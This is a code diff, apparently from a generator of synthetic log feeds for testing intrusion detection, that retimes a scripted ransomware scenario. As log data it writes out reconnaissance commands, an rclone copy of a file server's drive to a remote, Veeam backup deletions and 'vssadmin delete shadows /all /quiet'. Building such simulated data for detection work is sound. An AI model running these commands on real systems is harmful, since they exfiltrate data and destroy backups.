@@ -15,7 +15,7 @@ func attacks() []life.Story {
 	return []life.Story{
 		{
 			ID: "D09", Title: "Intruders come by a letter, take the network in a week, steal, delete the backups and encrypt on a Saturday night.",
-			Days: 7, Sources: []feed.Feed{feed.Windows, feed.Connections, feed.Network, feed.Backups, feed.Archive, feed.Wire, feed.SignIns, feed.Lab, feed.ADT}, Detector: "stages of an attack, then feeds that stop together",
+			Days: 9, Sources: []feed.Feed{feed.Windows, feed.Connections, feed.Network, feed.Backups, feed.Archive, feed.Wire, feed.SignIns, feed.Lab, feed.ADT}, Detector: "stages of an attack, then feeds that stop together",
 			Target: 3 * day, Case: true, Harm: 5, Run: told(longSiege),
 		},
 		{
@@ -37,6 +37,7 @@ func attacks() []life.Story {
 type intrusion struct {
 	*scene
 	login, machine, ip string // of the person who opened the letter
+	last               int    // the day whose night is the last
 }
 
 const (
@@ -58,12 +59,24 @@ func longSiege(s *scene) {
 		return
 	}
 	s.Note([]*world.Staff{who}, nil)
-	i := &intrusion{scene: s, login: who.Login, machine: "WS-SCHED-04", ip: s.seat(who)}
+	seat := s.seat(who, s.At(0, 10, 2))
+	i := &intrusion{scene: s, login: who.Login, machine: seat.Host, ip: seat.IP, last: s.lastNight()}
 	i.wayIn()
 	i.lookAround()
 	i.takeAway()
 	i.blind()
 	i.encrypt()
+}
+
+// lastNight is the day in whose night all is encrypted: a Friday after six days or more if there is one, and early enough for
+// somebody to see it.
+func (s *scene) lastNight() int {
+	for d := 6; d < s.Days()-1; d++ {
+		if s.Day(d).Weekday() == time.Friday {
+			return d
+		}
+	}
+	return max(0, min(6, s.Days()-2))
 }
 
 func (i *intrusion) wayIn() {
@@ -82,7 +95,7 @@ func (i *intrusion) wayIn() {
 }
 
 func (i *intrusion) lookAround() {
-	at := i.At(i.within(3), 22, 14)
+	at := i.At(min(3, i.last), 22, 14)
 	for n, c := range []string{"nltest /dclist:example", `net group "Domain Admins" /domain`, "whoami /all", "arp -a"} {
 		i.ran(at.Add(time.Duration(20*n)*time.Second), i.machine, i.login, cmd, powershell, c)
 	}
@@ -96,7 +109,7 @@ func (i *intrusion) lookAround() {
 }
 
 func (i *intrusion) takeAway() {
-	at := i.At(i.within(5), 23, 31)
+	at := i.At(max(0, i.last-1), 23, 31)
 	i.ran(at, "SRV-FILE-01", "svc_deploy", `C:\ProgramData\rclone.exe`, cmd, `rclone copy D:\ remote:b --max-age 3y --transfers 12`)
 	for n := range 12 {
 		when := at.Add(time.Duration(n) * 22 * time.Minute)
@@ -106,7 +119,7 @@ func (i *intrusion) takeAway() {
 }
 
 func (i *intrusion) blind() {
-	at := i.At(i.within(6), 20, 40)
+	at := i.At(i.last, 20, 40)
 	i.say(feed.Backups, at, trace.Server{Host: "srv-backup-01", Program: "Veeam_MP", Process: 1}.Line(at, "job=\"nightly record system\" state=deleted user=EXAMPLE\\svc_deploy"))
 	i.say(feed.Backups, at.Add(time.Minute), trace.Server{Host: "srv-backup-01", Program: "Veeam_MP", Process: 1}.Line(at.Add(time.Minute), "repository=\"disk-1\" restore_points=0 deleted=412 user=EXAMPLE\\svc_deploy"))
 	for n := range 30 {
@@ -117,7 +130,7 @@ func (i *intrusion) blind() {
 }
 
 func (i *intrusion) encrypt() {
-	at := i.At(i.within(6), 25, 0)
+	at := i.At(i.last, 25, 0)
 	i.ran(at, "SRV-FILE-01", "svc_deploy", systemDir+"vssadmin.exe", cmd, "vssadmin delete shadows /all /quiet")
 	names := []string{"~AAAA passwords.docx", "Letters\\letter%04d.docx", "Scans\\scan%04d.pdf", "Rosters\\week%04d.xlsx"}
 	for n := range 400 {
@@ -173,6 +186,7 @@ func neighbourHit(s *scene) {
 	w := s.World()
 	// A quarter of the emergency department's patients come by ambulance (260 a day at 1,000 beds); a third of these more.
 	more := max(1, int(260*0.25*0.35*w.Scale+0.5))
+	s.Expect(func(t *life.Tale) { t.Start, t.End = s.At(0, 6, 0).UTC(), s.At(s.days(28), 0, 0).UTC() })
 	for d := range s.days(28) {
 		s.On(d, func() {
 			for range more {
